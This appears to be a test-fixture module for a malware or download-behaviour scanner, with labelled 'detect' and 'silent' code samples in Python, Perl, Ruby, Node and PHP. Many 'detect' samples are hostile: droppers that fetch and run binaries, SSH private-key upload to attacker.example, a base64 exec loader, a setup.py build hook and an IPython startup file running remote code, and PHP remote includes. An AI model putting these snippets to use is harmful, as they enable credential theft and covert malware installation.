"""Language source carriers: python, perl, ruby, js, node, php."""
from common import C, b64

GTFO = "GTFOBins"
CAPA = "capa 'download and write a file' / 'send file via HTTP'"
PV = "parser variant (author)"
RW = "real-world carrier context"

# ---------------------------------------------------------------- python
C("h4-py-dropper-request-chmod-popen-01", CAPA + " (urllib Request, write, chmod, Popen)", "python",
  "/usr/local/lib/python3.11/dist-packages/telemetry_helper/_boot.py", "detect", r'''
import os
import subprocess
import urllib.request

_URL = "http://198.51.100.112/t/linux-amd64"
_DST = "/tmp/.telemetry"


def _boot():
    req = urllib.request.Request(_URL, headers={"User-Agent": "pip/23.3"})
    with urllib.request.urlopen(req, timeout=10) as r, open(_DST, "wb") as f:
        f.write(r.read())
    os.chmod(_DST, 0o755)
    subprocess.Popen([_DST], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


_boot()
''', executable=False)

C("h4-py-requests-post-files-02", CAPA + " (requests.post files= upload)", "python",
  "/opt/collector/upload_keys.py", "detect", r'''
#!/usr/bin/env python3
import glob
import requests

for path in glob.glob("/home/*/.ssh/id_*"):
    with open(path, "rb") as fh:
        requests.post("https://intake.attacker.example/k", files={"f": (path, fh)}, timeout=15)
''')

C("h4-py-fabric-get-03", RW + " (fabric Connection.get over SSH)", "python",
  "/opt/deploy/fabfile.py", "detect", r'''
from fabric import Connection, task


@task
def pull_tools(c):
    conn = Connection("deploy@203.0.113.54")
    conn.get("/srv/tools/agent.tar.gz", local="/opt/tools/agent.tar.gz")
''', executable=False)

C("h4-py-smbclient-open-file-04", PV + " (smbprotocol smbclient reading a remote share)", "python",
  "/opt/sync/pull_share.py", "detect", r'''
#!/usr/bin/env python3
import shutil
import smbclient

smbclient.register_session("files.attacker.example", username="guest", password="")
with smbclient.open_file(r"\\files.attacker.example\pub\payload.bin", mode="rb") as src, \
        open("/var/tmp/payload.bin", "wb") as dst:
    shutil.copyfileobj(src, dst)
''')

C("h4-py-os-spawnlp-curl-05", PV + " (os.spawnlp running curl)", "python",
  "/usr/local/bin/refresh-rules.py", "detect", r'''
#!/usr/bin/env python3
import os

os.spawnlp(os.P_WAIT, "curl", "curl", "-fsS", "-o", "/etc/app/rules.yar",
           "https://rules.attacker.example/latest.yar")
''')

C("h4-py-b64-exec-oneliner-06", PV + " (python -c exec(b64decode(...)))", "python",
  "/usr/local/bin/pyinit", "detect", r'''
#!/bin/sh
python3 -c "import base64;exec(base64.b64decode(''' + "'" + b64("import urllib.request\nurllib.request.urlretrieve('http://198.51.100.185/s.py', '/tmp/s.py')\nexec(open('/tmp/s.py').read())\n") + "'" + r'''))"
''')

C("h4-py-urllib3-request-07", PV + " (urllib3 v2 top-level request)", "python",
  "/opt/app/plugins/fetch_plugin.py", "detect", r'''
import pathlib
import urllib3

resp = urllib3.request("GET", "https://plugins.attacker.example/p/ext.so", preload_content=True)
pathlib.Path("/opt/app/plugins/ext.so").write_bytes(resp.data)
''', executable=False)

C("h4-py-setup-cfg-build-py-08", RW + " (setup.py build_py override downloading a binary)", "python",
  "/src/pyhelper/setup.py", "detect", r'''
import urllib.request
from setuptools import setup
from setuptools.command.build_py import build_py


class FetchBinary(build_py):
    def run(self):
        urllib.request.urlretrieve("http://203.0.113.93/bin/helper", "src/pyhelper/_helper")
        super().run()


setup(name="pyhelper", version="0.3.1", cmdclass={"build_py": FetchBinary}, packages=["pyhelper"])
''', executable=False)

C("h4-py-ipython-startup-exec-09", RW + " (IPython startup file runs remote code)", "python",
  "/home/jovyan/.ipython/profile_default/startup/00-init.py", "detect", r'''
import requests as _rq

_r = _rq.get("https://nb.attacker.example/init.py", timeout=5)
if _r.ok:
    exec(_r.text, globals())
''', executable=False)

C("h4-py-silent-health-env-01", "loopback health check from env default", "python",
  "/opt/svc/bin/healthcheck.py", "silent", r'''
#!/usr/bin/env python3
import os
import sys
import urllib.request

url = os.environ.get("HEALTH_URL", "http://127.0.0.1:8000/healthz")
try:
    with urllib.request.urlopen(url, timeout=2) as r:
        sys.exit(0 if r.status == 200 else 1)
except OSError:
    sys.exit(1)
''')

C("h4-py-silent-docstring-02", "docstring mentioning download tools", "python",
  "/opt/app/app/mirrors.py", "silent", r'''
"""Mirror selection.

Operators usually pre-seed the cache with ``wget -r https://mirror.example.net/pub/``
or ``curl -O https://mirror.example.net/pub/index.json``; this module only picks
which configured mirror URL to hand to the client.
"""
from urllib.parse import urljoin


def pick(mirrors, path):
    best = max(mirrors, key=lambda m: m["weight"])
    return urljoin(best["url"], path)
''', executable=False)

C("h4-py-silent-shutil-which-03", "shutil.which tool probe", "python",
  "/opt/app/app/tools.py", "silent", r'''
import shutil
import subprocess

TOOLS = ("curl", "wget", "scp")


def available():
    out = {}
    for t in TOOLS:
        p = shutil.which(t)
        out[t] = subprocess.run([p, "--version"], capture_output=True, text=True).stdout.split("\n")[0] if p else None
    return out
''', executable=False)

# ---------------------------------------------------------------- perl
C("h4-pl-mojo-save-to-01", CAPA + " (Mojo::UserAgent save_to)", "perl",
  "/opt/perl/bin/fetch-mojo.pl", "detect", r'''
#!/usr/bin/perl
use strict;
use warnings;
use Mojo::UserAgent;

my $ua = Mojo::UserAgent->new(max_redirects => 3);
$ua->get('https://dl.attacker.example/m/agent')->result->save_to('/usr/local/bin/agent');
chmod 0755, '/usr/local/bin/agent';
''')

C("h4-pl-mechanize-save-content-02", CAPA + " (WWW::Mechanize save_content)", "perl",
  "/opt/perl/bin/grab.pl", "detect", r'''
#!/usr/bin/perl
use WWW::Mechanize;
my $m = WWW::Mechanize->new(autocheck => 1);
$m->get("http://198.51.100.144/x/kit.tgz");
$m->save_content("/tmp/kit.tgz", binmode => ':raw');
system("tar", "xzf", "/tmp/kit.tgz", "-C", "/tmp");
''')

C("h4-pl-net-ssh2-scp-get-03", "GTFOBins scp / capa (Net::SSH2 scp_get)", "perl",
  "/opt/perl/bin/ssh2-pull.pl", "detect", r'''
#!/usr/bin/perl
use Net::SSH2;
my $ssh = Net::SSH2->new;
$ssh->connect('203.0.113.57') or die;
$ssh->auth_password('ops', $ENV{OPS_PW});
$ssh->scp_get('/srv/drop/tool', '/usr/local/bin/tool');
''')

C("h4-pl-lwp-get-eval-04", "GTFOBins perl / " + PV + " (LWP::Simple::get then eval)", "perl",
  "/usr/share/perl5/Local/Plugins.pm", "detect", r'''
package Local::Plugins;
use strict;
use LWP::Simple ();

sub load_remote {
    my $code = LWP::Simple::get('http://plugins.attacker.example/p.pl');
    eval $code if defined $code;
}

load_remote();
1;
''', executable=False)

C("h4-pl-silent-pod-01", "POD documentation", "perl",
  "/usr/share/perl5/Local/Fetch/Docs.pm", "silent", r'''
package Local::Fetch::Docs;
use strict;
1;
__END__

=head1 NAME

Local::Fetch::Docs - notes on fetching

=head1 DESCRIPTION

To mirror a file by hand run C<lwp-download http://example.com/file.tgz> or
C<perl -MLWP::Simple -e 'getstore(...)'>. This module does not download anything.

=cut
''', executable=False)

C("h4-pl-silent-proxy-env-02", "prints proxy configuration", "perl",
  "/opt/perl/bin/show-proxy.pl", "silent", r'''
#!/usr/bin/perl
use strict;
use warnings;
for my $k (qw(http_proxy https_proxy no_proxy)) {
    printf "%-12s %s\n", $k, $ENV{$k} // '(unset)';
}
''')

# ---------------------------------------------------------------- ruby
C("h4-rb-down-download-01", CAPA + " (Down.download gem)", "ruby",
  "/opt/rails/lib/tasks/fetch_assets.rb", "detect", r'''
require "down"
require "fileutils"

tempfile = Down.download("https://assets.attacker.example/pack/bundle.so")
FileUtils.mv(tempfile.path, "/opt/rails/vendor/bundle.so")
''', executable=False)

C("h4-rb-net-sftp-download-02", "GTFOBins sftp / capa (Net::SFTP download!)", "ruby",
  "/opt/ruby/bin/sftp-pull", "detect", r'''
#!/usr/bin/env ruby
require "net/sftp"

Net::SFTP.start("203.0.113.101", "ops", password: ENV.fetch("OPS_PW")) do |sftp|
  sftp.download!("/srv/drop/agent", "/usr/local/bin/agent")
end
File.chmod(0o755, "/usr/local/bin/agent")
''')

C("h4-rb-io-popen-curl-03", PV + " (IO.popen with an argv array)", "ruby",
  "/opt/ruby/bin/popen-fetch", "detect", r'''
#!/usr/bin/env ruby
data = IO.popen(["curl", "-fsSL", "http://198.51.100.164/r.rb"], &:read)
eval(data)
''')

C("h4-rb-faraday-binwrite-04", CAPA + " (Faraday.get + File.binwrite)", "ruby",
  "/opt/ruby/lib/updater.rb", "detect", r'''
require "faraday"

resp = Faraday.get("https://updates.attacker.example/bin/worker")
File.binwrite("/opt/ruby/bin/worker", resp.body)
File.chmod(0o755, "/opt/ruby/bin/worker")
''', executable=False)

C("h4-rb-silent-rake-test-01", "Rakefile with a loopback smoke test", "ruby",
  "/opt/rails/lib/tasks/smoke.rake", "silent", r'''
namespace :smoke do
  desc "hit the local health endpoint"
  task :health do
    require "net/http"
    res = Net::HTTP.get_response(URI("http://localhost:3000/up"))
    abort "unhealthy" unless res.code == "200"
  end
end
''', executable=False)

C("h4-rb-silent-usage-heredoc-02", "usage text", "ruby",
  "/opt/ruby/bin/kit-help", "silent", r'''
#!/usr/bin/env ruby
puts <<~USAGE
  kit - developer toolkit

  Install:  curl -fsSL https://get.kit.example.com | sh
  Upgrade:  kit self-update   (downloads are done by the kit daemon)
USAGE
''')

# ---------------------------------------------------------------- js (modules, no shebang)
C("h4-js-request-pipe-01", CAPA + " (request(url).pipe(createWriteStream))", "js",
  "/usr/lib/node_modules/colors-helper/lib/postinstall.js", "detect", r'''
const fs = require('fs');
const request = require('request');

request('http://198.51.100.88/bin/linux-x64')
  .pipe(fs.createWriteStream('/tmp/.node-helper', { mode: 0o755 }))
  .on('finish', () => require('child_process').spawn('/tmp/.node-helper', [], { detached: true, stdio: 'ignore' }).unref());
''')

C("h4-js-needle-output-02", CAPA + " (needle with output option)", "js",
  "/srv/app/scripts/fetch-binary.js", "detect", r'''
const needle = require('needle');

needle.get('https://dl.attacker.example/prebuilt/addon.node', { output: '/srv/app/build/addon.node', follow_max: 3 }, (err) => {
  if (err) process.exit(1);
});
''')

C("h4-js-ssh2-sftp-fastget-03", "GTFOBins sftp / capa (ssh2-sftp-client fastGet)", "js",
  "/srv/app/lib/pullReports.js", "detect", r'''
const SftpClient = require('ssh2-sftp-client');

module.exports = async function pull() {
  const sftp = new SftpClient();
  await sftp.connect({ host: '203.0.113.143', port: 22, username: 'ops', password: process.env.SFTP_PW });
  await sftp.fastGet('/srv/out/tool.bin', '/srv/app/bin/tool.bin');
  await sftp.end();
};
''')

C("h4-js-silent-webpack-config-01", "config with URLs, no fetch", "js",
  "/srv/app/webpack.config.js", "silent", r'''
const path = require('path');

module.exports = {
  entry: './src/index.js',
  output: { path: path.resolve(__dirname, 'dist'), publicPath: 'https://cdn.example.com/app/' },
  devServer: { proxy: { '/api': 'http://localhost:8080' } },
};
''')

C("h4-js-silent-express-static-02", "static file server", "js",
  "/srv/app/server.js", "silent", r'''
const express = require('express');
const app = express();

app.use('/downloads', express.static('/srv/app/public/downloads'));
app.get('/healthz', (req, res) => res.send('ok'));
app.listen(3000, '127.0.0.1');
''')

# ---------------------------------------------------------------- node (executables)
C("h4-node-http2-client-01", CAPA + " (http2.connect client request written to file)", "node",
  "/usr/local/bin/h2fetch", "detect", r'''
#!/usr/bin/env node
const http2 = require('http2');
const fs = require('fs');

const client = http2.connect('https://files.attacker.example');
const req = client.request({ ':path': '/bin/agent' });
req.pipe(fs.createWriteStream('/usr/local/bin/agent', { mode: 0o755 }));
req.on('end', () => client.close());
''')

C("h4-node-fetch-readable-fromweb-02", CAPA + " (fetch body -> Readable.fromWeb -> file)", "node",
  "/opt/node/bin/grab", "detect", r'''
#!/usr/bin/env node
const { Readable } = require('stream');
const { pipeline } = require('stream/promises');
const fs = require('fs');

(async () => {
  const res = await fetch('http://198.51.100.27:8080/payload.bin');
  await pipeline(Readable.fromWeb(res.body), fs.createWriteStream('/tmp/payload.bin'));
})();
''')

C("h4-node-spawn-scp-03", "GTFOBins scp / " + PV + " (spawn with argv array)", "node",
  "/opt/node/bin/pull-model", "detect", r'''
#!/usr/bin/env node
const { spawn } = require('child_process');

const p = spawn('scp', ['-q', 'ml@203.0.113.133:/models/latest.onnx', '/opt/models/latest.onnx'], { stdio: 'inherit' });
p.on('exit', (code) => process.exit(code));
''')

C("h4-node-silent-cli-args-01", "CLI parsing a --url option", "node",
  "/opt/node/bin/urlinfo", "silent", r'''
#!/usr/bin/env node
const { parseArgs } = require('util');
const { values } = parseArgs({ options: { url: { type: 'string', default: 'https://example.com/file.tgz' } } });
const u = new URL(values.url);
console.log(JSON.stringify({ host: u.host, path: u.pathname, protocol: u.protocol }));
''')

# ---------------------------------------------------------------- php
C("h4-php-ftp-get-01", "capa 'communicate using FTP' (ftp_get)", "php",
  "/var/www/html/wp-content/uploads/2026/03/cache.php", "detect", r'''
<?php
$c = ftp_connect('203.0.113.74');
ftp_login($c, 'anonymous', 'x@example.com');
ftp_pasv($c, true);
ftp_get($c, '/tmp/.c.php', '/pub/c.php', FTP_BINARY);
ftp_close($c);
include '/tmp/.c.php';
''')

C("h4-php-remote-include-02", RW + " (remote file include)", "php",
  "/var/www/html/modules/loader.php", "detect", r'''
<?php
ini_set('allow_url_include', '1');
include 'http://198.51.100.190/shell.txt';
''')

C("h4-php-stream-socket-client-03", "capa 'receive data on socket' (stream_socket_client)", "php",
  "/var/www/html/lib/sock.php", "detect", r'''
<?php
$s = stream_socket_client('tcp://203.0.113.152:80', $errno, $errstr, 10);
fwrite($s, "GET /p.bin HTTP/1.0\r\nHost: 203.0.113.152\r\n\r\n");
$body = stream_get_contents($s);
fclose($s);
file_put_contents('/tmp/p.bin', substr($body, strpos($body, "\r\n\r\n") + 4));
chmod('/tmp/p.bin', 0755);
''')

C("h4-php-proc-open-wget-04", PV + " (proc_open with wget)", "php",
  "/var/www/html/admin/tools/update.php", "detect", r'''
<?php
$p = proc_open('wget -q -O /var/www/html/.x http://updates.attacker.example/x.php', [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
proc_close($p);
''')

C("h4-php-silent-redirect-01", "redirect header only", "php",
  "/var/www/html/download.php", "silent", r'''
<?php
// send the browser to the release page; the server itself fetches nothing
$ver = preg_replace('/[^0-9.]/', '', $_GET['v'] ?? 'latest');
header('Location: https://releases.example.com/app/' . $ver . '/');
exit;
''')
